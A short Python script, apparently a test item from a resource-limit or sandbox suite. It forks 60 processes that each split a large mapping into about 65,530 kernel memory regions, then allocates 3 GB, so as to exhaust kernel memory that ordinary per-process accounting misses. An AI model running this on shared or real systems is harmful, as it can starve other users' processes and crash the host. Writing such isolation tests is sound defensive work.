# Cuts the memory of many processes into as many pieces as Linux allows: its lists of them are in no process's memory.
#
# must: be counted, and take nothing from others

# %%
import ctypes, mmap, os, time

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
PIECES = 65_530  # of a process, unless the machine is set up otherwise


def cut():
    size = PIECES * mmap.PAGESIZE
    start = libc.mmap(None, ctypes.c_size_t(size), 0, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, ctypes.c_long(0))
    for place in range(0, size, 2 * mmap.PAGESIZE):
        if libc.mprotect(ctypes.c_void_p(start + place), ctypes.c_size_t(mmap.PAGESIZE), mmap.PROT_READ):
            break


for _ in range(60):
    if os.fork() == 0:
        cut()
        time.sleep(60)
        os._exit(0)
memory = bytearray(b"x") * (3 << 30)  # with the lists, more than there may be
time.sleep(20)
loot(f"60 processes of {PIECES} pieces each")
